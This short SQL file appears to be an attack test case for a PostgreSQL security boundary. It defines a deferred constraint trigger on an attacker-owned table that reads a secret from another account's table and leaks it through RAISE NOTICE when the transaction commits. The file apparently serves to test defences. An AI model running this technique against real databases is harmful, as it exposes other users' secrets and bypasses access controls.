-- Leaves the reading to a deferred trigger.
-- wants: read
-- attack:
CREATE FUNCTION tell() RETURNS trigger LANGUAGE plpgsql AS $$BEGIN
  RAISE NOTICE '%', (SELECT secret FROM vlt_account WHERE id = 1); RETURN NULL; END$$;
CREATE CONSTRAINT TRIGGER t AFTER INSERT ON mallory_own DEFERRABLE INITIALLY DEFERRED
  FOR EACH ROW EXECUTE FUNCTION tell();
BEGIN;
INSERT INTO mallory_own VALUES (100, 'x');
COMMIT;
